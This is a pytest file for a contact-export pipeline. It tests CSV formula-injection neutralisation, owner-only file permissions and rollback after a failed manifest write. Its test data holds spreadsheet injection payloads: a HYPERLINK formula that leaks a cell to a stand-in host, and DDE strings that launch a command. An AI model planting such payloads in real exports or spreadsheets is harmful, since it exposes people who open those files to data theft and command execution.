"""Export files a marketer opens: formulas neutralised, owner-only, never ahead of the state."""

import csv
import errno
import json
import os
import stat

import pyarrow.parquet as pq
from test_export_segments import DEFAULT_SEGMENTS, events, mart, with_targets

from pipelines.errors import describe_error
from pipelines.exports import files
from pipelines.exports.push import IDEMPOTENCY_HEADER
from pipelines.exports.segments import declared_segments

HOSTILE_NAMES = [
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Claim points")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "\r=2+2"),
]


def read_csv(path):
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def rename_in_sandbox(workspace, contact_uuid, firstname, lastname):
    """Piggy's API has no contact update: write the names into the sandbox's own store."""
    app = workspace.sandbox.app
    contact_id = app.codec.decode("contact", contact_uuid)
    with app.store.write() as db:
        db.execute(
            "UPDATE contacts SET firstname = ?, lastname = ?, updated_at = ? WHERE id = ?",
            (firstname, lastname, app.store.now, contact_id),
        )


def reload(workspace):
    for args in (("run",), ("transform", "--target-path", str(workspace.root / "dbt-target"))):
        done = workspace.cli_process(*args)
        assert done.returncode == 0, done.stderr[-2000:]


def largest_segment(workspace):
    return max(declared_segments(), key=lambda segment: len(mart(workspace, segment)))


def test_formula_names_are_neutralised_in_csv_and_kept_raw_in_parquet(workspace, receiver):
    with_targets(workspace, receiver)
    segment = largest_segment(workspace)
    members = [row["contact_uuid"] for row in mart(workspace, segment)][: len(HOSTILE_NAMES)]
    assert len(members) == len(HOSTILE_NAMES), "the largest segment is too small for this test"
    for contact_uuid, (first, last) in zip(members, HOSTILE_NAMES, strict=True):
        rename_in_sandbox(workspace, contact_uuid, first, last)
    reload(workspace)
    workspace.cli("export")

    hostile = dict(zip(members, HOSTILE_NAMES, strict=True))
    folder = workspace.root / "exports" / segment
    for stem in (segment, "delta"):
        by_member = {r["contact_uuid"]: r for r in read_csv(folder / f"{stem}.csv")}
        for contact_uuid, (first, last) in hostile.items():
            assert by_member[contact_uuid]["firstname"] == "'" + first, stem
            assert by_member[contact_uuid]["lastname"] == "'" + last, stem
        parquet = {
            r["contact_uuid"]: r for r in pq.read_table(folder / f"{stem}.parquet").to_pylist()
        }
        for contact_uuid, (first, last) in hostile.items():
            assert (parquet[contact_uuid]["firstname"], parquet[contact_uuid]["lastname"]) == (
                first,
                last,
            )
    pushed = {e["member"]["contact_uuid"]: e["member"] for e in events(receiver)}
    assert all(pushed[uuid]["firstname"] == first for uuid, (first, _) in hostile.items())


def test_csv_cells_keep_numbers_and_plain_text_and_quote_every_formula_start(tmp_path):
    row = {
        "negative_int": -5,
        "negative_float": -1.5,
        "minus_text": "-5",
        "formula": "=1+1",
        "at": "@A1",
        "plus": "+1",
        "tab": "\tx",
        "return": "\rx",
        "plain": "Ann-Marie",
        "empty": None,
    }
    files.write_table(tmp_path, "t", list(row), [row])

    (written,) = read_csv(tmp_path / "t.csv")
    assert written == {
        "negative_int": "-5",
        "negative_float": "-1.5",
        "minus_text": "'-5",
        "formula": "'=1+1",
        "at": "'@A1",
        "plus": "'+1",
        "tab": "'\tx",
        "return": "'\rx",
        "plain": "Ann-Marie",
        "empty": "",
    }
    assert pq.read_table(tmp_path / "t.parquet").to_pylist() == [row]


def test_export_files_are_owner_only_under_umask_022(tmp_path):
    previous = os.umask(0o022)
    try:
        folder = tmp_path / "exports" / "seg"
        files.write_table(folder, "seg", ["contact_uuid"], [{"contact_uuid": "c1"}])
        files.write_manifest(folder, {"segment": "seg"})
    finally:
        os.umask(previous)

    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in (tmp_path / "exports").rglob("*")}
    assert modes == {
        "seg": 0o700,
        "seg.csv": 0o600,
        "seg.parquet": 0o600,
        "manifest.json": 0o600,
    }
    assert stat.S_IMODE((tmp_path / "exports").stat().st_mode) == 0o700


def test_a_failed_manifest_write_moves_no_state_so_the_rerun_delta_holds_the_change(
    workspace, receiver, shop_uuid, monkeypatch
):
    with_targets(workspace, receiver)
    workspace.cli("export")
    member = next(r for s in DEFAULT_SEGMENTS for r in mart(workspace, s) if r["email"])
    segment = next(s for s in DEFAULT_SEGMENTS if member in mart(workspace, s))
    credit = {"shop_uuid": shop_uuid(workspace), "contact_uuid": member["contact_uuid"]}
    workspace.api("POST", "/credit-receptions", json={**credit, "credits": 7})
    reload(workspace)
    receiver.requests.clear()

    def disk_full(*args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    with monkeypatch.context() as patched:
        patched.setattr(files, "write_manifest", disk_full)
        failed = workspace.cli("export", "--segment", segment, expect_ok=False)
    message = describe_error(failed.exception)
    assert failed.exit_code != 0 and "No space left on device" in message
    assert "\n" not in message
    keys_sent = {r["headers"][IDEMPOTENCY_HEADER] for r in receiver.requests}
    assert keys_sent, "the pushes happen before the manifest"

    receiver.requests.clear()
    workspace.cli("export", "--segment", segment)
    folder = workspace.root / "exports" / segment
    delta = read_csv(folder / "delta.csv")
    assert [(r["change"], r["contact_uuid"]) for r in delta] == [
        ("changed", member["contact_uuid"])
    ]
    assert int(delta[0]["credit_balance"]) == member["credit_balance"] + 7
    assert json.loads((folder / "manifest.json").read_text())["delta"]["changed"] == 1
    assert {r["headers"][IDEMPOTENCY_HEADER] for r in receiver.requests} == keys_sent
